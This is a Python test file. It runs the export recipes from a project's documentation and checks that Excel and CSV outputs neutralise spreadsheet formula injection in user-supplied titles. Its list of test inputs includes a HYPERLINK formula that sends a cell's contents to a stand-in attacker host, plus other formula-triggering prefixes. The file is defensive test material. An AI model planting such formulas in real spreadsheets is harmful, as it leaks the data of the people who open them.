"""The recipes of docs/types.md make no formulas of what strangers write."""

from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa

from tests.docs.blocks import blocks_of

PAGE = (Path(__file__).parents[2] / "docs/types.md").read_text("utf-8")
EVIL = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=", "a deal", "1-2", None]


def run(recipe: str) -> None:
    deals = pa.table(
        {
            "ID": range(len(EVIL)),
            "TITLE": EVIL,
            "OPPORTUNITY": [-1.5] * len(EVIL),
            "DATE_CREATE": pa.array([0] * len(EVIL), pa.timestamp("us", "UTC")),
        }
    )
    known = {"deals": deals}
    for block in blocks_of(PAGE):
        if block.language == "python" and ("import csv" in block.code or recipe in block.code):
            exec(block.code, known)


def test_excel__has_no_formula_and_every_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run("deals.xlsx")
    head, *rows = openpyxl.load_workbook(tmp_path / "deals.xlsx").active.iter_rows()
    cells = [row[1] for row in rows]
    assert head[1].value == "TITLE"
    assert [cell for row in rows for cell in row if cell.data_type == "f"] == []
    assert [cell.value for cell in cells] == [text and text.replace("\r", "\n") for text in EVIL]
    assert [bool(cell.quotePrefix) for cell in cells] == [True] * 7 + [False] * 3
    assert {row[2].value for row in rows} == {-1.5}


def test_csv_for_people__has_no_text_that_begins_as_a_formula(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run("deals-for-excel.csv")
    table = pd.read_csv(tmp_path / "deals-for-excel.csv")
    assert [str(text)[:2] for text in table["TITLE"]] == ["'=", "'+", "'-", "'@", "'\t", "'\r", "'=", "a ", "1-", "na"]
    assert set(table["OPPORTUNITY"]) == {-1.5}
